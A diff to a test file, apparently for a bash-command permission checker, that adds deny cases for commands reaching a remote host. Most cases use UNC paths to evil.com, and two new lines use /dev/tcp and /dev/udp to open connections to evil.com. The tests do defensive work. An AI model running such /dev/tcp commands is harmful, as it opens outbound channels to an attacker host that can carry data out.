@@ -67,6 +67,8 @@ describe('a UNC server without a share in a bash line reaches the server (Cygwin
   it.each([
     ['ls //evil.com', 'deny'], ['ls -la //evil.com/', 'deny'], ['cd //evil.com', 'deny'], ['test -d //evil.com', 'deny'], ['find //evil.com', 'deny'],
     ["ls '\\\\evil.com'", 'deny'], ['cat //evil.com', 'deny'],
+    // (Git Bash opens /dev/tcp/HOST/PORT as a connection, as bash elsewhere.)
+    ['echo x > /dev/tcp/evil.com/80', 'deny'], ['cat < /dev/udp/evil.com/53', 'deny'],
     ['ls //localhost', 'allow'], ['ls //good.com', 'allow'], ['cscript //nologo x.vbs', 'allow'], ['echo //evil.com', 'allow'],
   ] as const)('%s -> %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
